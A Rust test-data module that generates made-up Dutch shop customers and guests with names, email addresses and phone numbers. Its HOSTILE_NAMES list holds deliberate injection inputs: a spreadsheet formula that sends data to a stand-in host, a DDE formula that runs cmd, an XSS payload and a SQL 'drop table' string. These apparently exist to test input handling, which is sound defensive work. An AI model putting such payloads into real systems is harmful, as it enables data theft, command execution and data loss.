//! The people who order. All of them are made up, and so are their addresses.

use fastrand::Rng;
use serde_json::{Value, json};

/// First names, as written and as in an address.
const FIRST_NAMES: [(&str, &str); 32] = [
    ("Anouk", "anouk"),
    ("Bart", "bart"),
    ("Çiğdem", "cigdem"),
    ("Daan", "daan"),
    ("Đorđe", "dorde"),
    ("Eva", "eva"),
    ("Fleur", "fleur"),
    ("Gijs", "gijs"),
    ("Hanneke", "hanneke"),
    ("Ímre", "imre"),
    ("Jan-Willem", "janwillem"),
    ("José", "jose"),
    ("Kees", "kees"),
    ("Lotte", "lotte"),
    ("Łukasz", "lukasz"),
    ("Maud", "maud"),
    ("Mohammed", "mohammed"),
    ("Nienke", "nienke"),
    ("Noor", "noor"),
    ("Øystein", "oystein"),
    ("Pieter", "pieter"),
    ("Quinten", "quinten"),
    ("Ruud", "ruud"),
    ("Sanne", "sanne"),
    ("Şeyma", "seyma"),
    ("Thijs", "thijs"),
    ("Ümit", "umit"),
    ("Vera", "vera"),
    ("Wietske", "wietske"),
    ("Xander", "xander"),
    ("Yasmine", "yasmine"),
    ("Zoë", "zoe"),
];

/// Last names, as written and as in an address.
const LAST_NAMES: [(&str, &str); 30] = [
    ("van den Akker", "vandenakker"),
    ("Bakker", "bakker"),
    ("van der Berg", "vanderberg"),
    ("Brouwer", "brouwer"),
    ("Çelik", "celik"),
    ("de Bruijn", "debruijn"),
    ("Dijkstra", "dijkstra"),
    ("Đorđević", "dordevic"),
    ("El Amrani", "elamrani"),
    ("Fernández", "fernandez"),
    ("de Groot", "degroot"),
    ("Hendriks", "hendriks"),
    ("in 't Veld", "intveld"),
    ("Jansen", "jansen"),
    ("de Jong", "dejong"),
    ("Kowalczyk", "kowalczyk"),
    ("van Leeuwen", "vanleeuwen"),
    ("Meijer", "meijer"),
    ("Mulder", "mulder"),
    ("Nguyễn", "nguyen"),
    ("op den Camp", "opdencamp"),
    ("Peters", "peters"),
    ("Şahin", "sahin"),
    ("Smit", "smit"),
    ("ten Have", "tenhave"),
    ("Visser", "visser"),
    ("de Vries", "devries"),
    ("van 't Hoff", "vanthoff"),
    ("Wiśniewski", "wisniewski"),
    ("Zijlstra-van der Meulen", "zijlstravandermeulen"),
];

/// Names that a spreadsheet or a page would run, or that don't fit.
const HOSTILE_NAMES: [(&str, &str); 6] = [
    ("Kees", "=HYPERLINK(\"http://kwaad.example/?\"&A1,\"klik hier\")"),
    ("+31612345678", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("<img src=x onerror=alert(1)>", "-2+3"),
    ("Robert'); drop table purchase; --", "\t=1+1"),
    ("\u{202e}אילנה", "محمد بن عبد الله"),
    (
        "Maria Wilhelmina Johanna Cornelia Hendrika Petronella Elisabeth Catharina",
        "van Heeckeren van Brandsenburg-Schimmelpenninck van der Oye tot den Bosch en Nijenbeek, gravin van Limburg Stirum",
    ),
];

/// One in this many orders is a guest's.
const GUESTS: u32 = 40;

/// Who ordered: the type, and the data.
pub(crate) struct Orderer {
    pub(crate) kind: &'static str,
    pub(crate) data: Value,
}

/// The customer with this number among those with hostile names, while there are any.
pub(super) fn hostile_orderer(number: u32) -> Option<Orderer> {
    let (first, last) = HOSTILE_NAMES.get(number as usize)?;
    Some(customer(first, last, &format!("bezoeker{number}@mail.example"), "+31 6 12345678"))
}

/// Draws a customer or, here and there, a guest.
pub(crate) fn orderer(rng: &mut Rng) -> Orderer {
    let (first, first_plain) = pick(rng, &FIRST_NAMES);
    let (last, last_plain) = pick(rng, &LAST_NAMES);
    let email = format!("{first_plain}.{last_plain}{}@mail.example", rng.u32(1..1000));
    if rng.u32(..GUESTS) == 0 {
        return Orderer { kind: "guest", data: json!({"first_name": first, "email": email}) };
    }
    let phone = format!("06-{:08}", rng.u32(10_000_000..100_000_000));
    customer(first, last, &email, &phone)
}

fn customer(first_name: &str, last_name: &str, email: &str, phone: &str) -> Orderer {
    let data = json!({"first_name": first_name, "last_name": last_name, "email": email, "phone": phone});
    Orderer { kind: "customer", data }
}

fn pick<T: Copy>(rng: &mut Rng, from: &[T]) -> T {
    from[rng.usize(..from.len())]
}
